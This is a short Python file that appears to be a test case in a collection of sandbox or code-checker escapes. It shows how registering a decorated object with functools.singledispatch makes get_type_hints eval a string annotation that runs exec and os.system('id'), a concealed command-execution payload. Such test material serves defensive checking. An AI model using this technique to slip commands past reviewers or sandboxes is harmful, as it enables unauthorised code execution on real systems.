# family: runner
# Escape: a `def` name counts as a plain function for .register even when a decorator replaced it: `render` is
# a Carrier instance. singledispatch.register(instance) reads its __annotations__ (the class annotations, where
# PAYLOAD is a string held in a variable) and get_type_hints eval()s that string.
import functools

PAYLOAD = "exec('import os; os.system(\"id\")') or int"


class Carrier:
    value: PAYLOAD
    def __init__(self, fn):
        self.fn = fn
    def __call__(self, *args):
        return self.fn(*args)


@functools.singledispatch
def show(value):
    return str(value)


@Carrier
def render(value):
    return repr(value)


def tool(value):
    show.register(render)
    return show(value)
